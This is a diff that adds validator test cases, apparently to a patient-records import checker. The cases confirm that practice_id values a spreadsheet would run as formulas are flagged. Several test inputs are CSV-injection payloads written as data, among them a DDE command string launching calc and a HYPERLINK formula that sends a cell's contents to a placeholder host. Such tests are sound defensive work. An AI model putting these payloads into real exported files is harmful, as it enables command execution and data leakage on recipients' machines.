@@ -55,6 +55,25 @@ CASES: list[tuple[str, str, dict[str, str], list[str]]] = [
     ("sex lower case", "patients", {"sex": "f"}, ["sex_allowed"]),
     ("sex X", "patients", {"sex": "X"}, ["sex_allowed"]),
     ("practice missing", "patients", {"practice_id": ""}, ["practice_id_required"]),
+    # issue 9.4: a practice_id a spreadsheet would run as a formula is quarantined
+    (
+        "practice a formula",
+        "patients",
+        {"practice_id": '=HYPERLINK("http://x"&A1,"x")'},
+        ["practice_id_pattern"],
+    ),
+    (
+        "practice a command",
+        "patients",
+        {"practice_id": "+cmd|' /C calc'!A0"},
+        ["practice_id_pattern"],
+    ),
+    ("practice an @ formula", "patients", {"practice_id": "@SUM(1+1)"}, ["practice_id_pattern"]),
+    ("practice a sum", "patients", {"practice_id": "-2+3"}, ["practice_id_pattern"]),
+    ("practice with an escape", "patients", {"practice_id": "P\x1b[2J"}, ["practice_id_pattern"]),
+    ("practice of 65 characters", "patients", {"practice_id": "P" * 65}, ["practice_id_pattern"]),
+    ("practice with dot, space", "patients", {"practice_id": "GP 1.a_b-c"}, []),
+    ("practice of 64 characters", "patients", {"practice_id": "P" * 64}, []),
     # ---- patients: dates
     ("registered 30 February", "patients", {"registered_on": "2023-02-30"}, ["registered_on_date"]),
     ("registered yesterday", "patients", {"registered_on": "yesterday"}, ["registered_on_date"]),
